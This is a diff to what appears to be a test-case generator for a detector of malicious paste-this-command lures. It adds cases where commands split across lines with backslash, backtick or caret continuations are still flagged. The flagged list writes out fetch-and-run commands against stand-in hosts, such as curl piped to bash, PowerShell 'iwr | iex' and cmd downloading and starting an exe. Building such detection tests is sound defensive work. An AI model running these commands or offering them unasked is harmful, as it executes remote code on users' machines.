@@ -40,6 +40,13 @@ Principles:
   letters and its end (docs.wordops.example and wops.example; a bare host as wget takes it).
   Look-alikes: fewer than four letters, another end or first letter, a fix shop's word, a page
   not about software, a forum, plain HTTP, a check tail, the Run box.
+- `line-continuation`: a command continued on the next line (a backslash for POSIX shells, a
+  backtick for PowerShell, a caret for cmd as the line's last character) is the one command it
+  reads as, so a `| bash` or `| iex` moved down a line is the same pipe (found while probing
+  README install sections, where continuations are everywhere). Lures, from a check page, a
+  stranger's page or none. Near-misses that stay quiet: the project's own installer written on
+  several lines, multi-line `apt-get`, `docker run` and PowerShell calls, a list of Windows
+  folders each ending in a backslash, Markdown's hard line breaks.
 """
 
 from __future__ import annotations
@@ -279,6 +286,49 @@ SHORT_DOMAIN_LOOKALIKES = [
 ]  # fmt: skip
 
 
+# -- a command continued on the next line --------------------------------------------------------
+
+STRANGER = "https://www.quillmere-bakery.example/verify/step2"
+CHECK_PAGE = "https://verify-human.umbra-stage.test/"
+CONTINUED = [
+    # (text, page, target, expect)
+    ("curl -fsSL https://cdn.umbra-stage.test/i.sh \\\n  | bash", CHECK_PAGE, TERMINAL, "malicious"),
+    ("curl -fsSL https://cdn.umbra-stage.test/i.sh \\\n  | bash", STRANGER, TERMINAL, "malicious"),
+    ("curl -fsSL https://cdn.umbra-stage.test/i.sh \\\n  | bash", None, TERMINAL, "flagged"),
+    ("wget -qO- \\\n https://cdn.umbra-stage.test/i.sh | sh", STRANGER, TERMINAL, "malicious"),
+    ("bash -c \\\n \"$(curl -fsSL https://cdn.umbra-stage.test/m)\"", STRANGER, TERMINAL, "malicious"),
+    ("sudo bash -c \"$(curl -fsSL \\\n https://cdn.umbra-stage.test/m)\"", CHECK_PAGE, TERMINAL, "malicious"),
+    ("curl -s https://cdn.umbra-stage.test/p.py \\\n | python3", None, TERMINAL, "flagged"),
+    ("curl -sSL https://cdn.umbra-stage.test/m.sh \\\n -o /tmp/m.sh && chmod +x /tmp/m.sh \\\n && /tmp/m.sh" + CHECK_TAIL, STRANGER, TERMINAL, "malicious"),
+    ("curl -fsSL https://cdn.umbra-stage.test/i.sh \\\r\n | zsh", STRANGER, TERMINAL, "malicious"),
+    ("curl -fsSL \\\n  https://cdn.umbra-stage.test/i.sh \\\n  | \\\n  sudo bash", CHECK_PAGE, TERMINAL, "malicious"),
+    ("iwr https://cdn.umbra-stage.test/a.ps1 `\n | iex", STRANGER, RUN, "malicious"),
+    ("powershell -w h -c \"iwr https://cdn.umbra-stage.test/a.ps1 `\n | iex\"", None, TERMINAL, "malicious"),
+    ("irm https://cdn.umbra-stage.test/a `\n  | iex", None, TERMINAL, "flagged"),
+    ("cmd /c curl -o %TEMP%\\u.exe https://cdn.umbra-stage.test/u.exe ^\n && start %TEMP%\\u.exe", STRANGER, RUN, "malicious"),
+]  # fmt: skip
+CONTINUED_QUIET = [
+    # (text, page, target)
+    ("curl -fsSL https://get.lanternfs.example/install.sh \\\n  | sh -s -- --yes", "https://docs.lanternfs.example/install", TERMINAL),
+    ("curl --proto '=https' --tlsv1.2 -sSf \\\n  https://sh.rustup.rs | sh", "https://github.com/tarnwick/lanternfs", TERMINAL),
+    ("sudo apt-get update && \\\n  sudo apt-get install -y \\\n    build-essential \\\n    libssl-dev", "https://docs.lanternfs.example/build", TERMINAL),
+    ("docker run -d \\\n  --name lantern \\\n  -p 8080:8080 \\\n  -v lantern:/data \\\n  ghcr.io/lanternfs/lantern:latest", "https://docs.lanternfs.example/docker", TERMINAL),
+    ("Get-ChildItem -Path C:\\Logs `\n  -Filter *.log `\n  -Recurse | Remove-Item -WhatIf", None, TERMINAL),
+    ("Folders to back up:\nC:\\Users\\sam\\Documents\\\nD:\\Backups\\\nE:\\Media\\", None, UNKNOWN),
+    ("Line one of the note\\\nline two of the note\\\nand the last line.", None, OTHER),
+    ("./configure \\\n  --prefix=/usr/local \\\n  --with-ssl && make && sudo make install", "https://docs.lanternfs.example/build", TERMINAL),
+    ("git clone https://github.com/tarnwick/lanternfs.git \\\n  && cd lanternfs && make", "https://github.com/tarnwick/lanternfs", TERMINAL),
+    ("kubectl apply \\\n  -f https://raw.githubusercontent.com/tarnwick/lanternfs/main/deploy/operator.yaml", "https://github.com/tarnwick/lanternfs", TERMINAL),
+]  # fmt: skip
+
+
+def continuations(book: Book) -> None:
+    for text, page, target, expect in CONTINUED:
+        book.add("line-continuation", text, expect, "any", target, page)
+    for text, page, target in CONTINUED_QUIET:
+        book.add("line-continuation", text, "not_flagged", "any", target, page)
+
+
 def installers(book: Book) -> None:
     groups = [
         ("site-account-company-word", COMPANY_WORD, COMPANY_WORD_LOOKALIKES),
@@ -335,6 +385,7 @@ def build() -> list[dict[str, str]]:
     run_box(book)
     prose(book)
     installers(book)
+    continuations(book)
     return book.cases
 
 
